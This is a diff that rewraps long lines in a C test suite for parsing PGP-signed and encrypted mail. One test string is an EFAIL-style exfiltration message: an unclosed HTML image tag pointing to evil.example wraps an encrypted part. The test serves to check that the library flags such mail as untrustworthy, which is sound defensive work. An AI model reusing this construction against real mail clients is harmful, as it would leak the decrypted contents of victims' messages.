@@ -54,7 +54,8 @@ with_crlf (const char *text)
 
 /* multipart/signed as RFC 3156 and 8551 want it; `entity` ends with \n. */
 static char *
-sign (const char *from, const char *entity, const char *type, const char *encoding, const char *line)
+sign (const char *from, const char *entity, const char *type, const char *encoding,
+      const char *line)
 {
   /* the line break before the boundary is not signed */
   g_autofree char *content = g_strndup (entity, strlen (entity) - 1);
@@ -63,7 +64,8 @@ sign (const char *from, const char *entity, const char *type, const char *encodi
 
   return g_strconcat (from, "Content-Type: multipart/signed; protocol=\"", type,
                       "\"; boundary=s\n\n--s\n", entity, "--s\nContent-Type: ", type,
-                      "\nContent-Transfer-Encoding: ", encoding, "\n\n", signature, "--s--\n", NULL);
+                      "\nContent-Transfer-Encoding: ", encoding, "\n\n", signature, "--s--\n",
+                      NULL);
 }
 
 static char *
@@ -438,8 +440,9 @@ test_surrounded (void)
   if (!needs_keys ())
     return;
   inner = encrypt_pgp ("", HELLO, PGP_ENCRYPT);
-  text = g_strconcat (HEAD (ANN), "Content-Type: multipart/mixed; boundary=o\n\n--o\n"
-                                  "Content-Type: text/html\n\n<img src=\"http://evil.example/\n--o\n",
+  text = g_strconcat (HEAD (ANN),
+                      "Content-Type: multipart/mixed; boundary=o\n\n--o\n"
+                      "Content-Type: text/html\n\n<img src=\"http://evil.example/\n--o\n",
                       inner, "--o\nContent-Type: text/html\n\n\">\n--o--\n", NULL);
   mail = unseal (text);
   assert_seal (mail, 0, PD_SEAL_UNKNOWN, FALSE, TRUE);
@@ -463,8 +466,9 @@ test_locked (void)
   assert_seal (mail, 0, PD_SEAL_UNKNOWN, TRUE, TRUE);
   g_assert_true (mail->is_encrypted);
   g_assert_null (mail->opened);
-  good = encrypt_pgp (HEAD (ANN), HELLO, PGP "-a --no-emit-version --rfc2440 --disable-mdc "
-                                             "-r support@desk.example --encrypt || " PGP_ENCRYPT);
+  good = encrypt_pgp (HEAD (ANN), HELLO,
+                      PGP "-a --no-emit-version --rfc2440 --disable-mdc "
+                          "-r support@desk.example --encrypt || " PGP_ENCRYPT);
   broken = g_strdup (good);
   /* a digit of the last line of the data */
   data = strstr (broken, "\n=");
@@ -515,8 +519,9 @@ test_no_home (void)
 static void
 test_no_keys (void)
 {
-  static const char text[] = HEAD (ANN) "Content-Type: multipart/signed; boundary=s\n\n--s\n\nx\n--s\n"
-                                        "Content-Type: application/pgp-signature\n\ny\n--s--\n";
+  static const char text[]
+      = HEAD (ANN) "Content-Type: multipart/signed; boundary=s\n\n--s\n\nx\n--s\n"
+                   "Content-Type: application/pgp-signature\n\ny\n--s--\n";
   g_autoptr (GBytes) raw = g_bytes_new_static (text, strlen (text));
   PdMail *mail = pd_mail_parse (raw, NULL, NULL);
   PdUnseal how = { 0 };
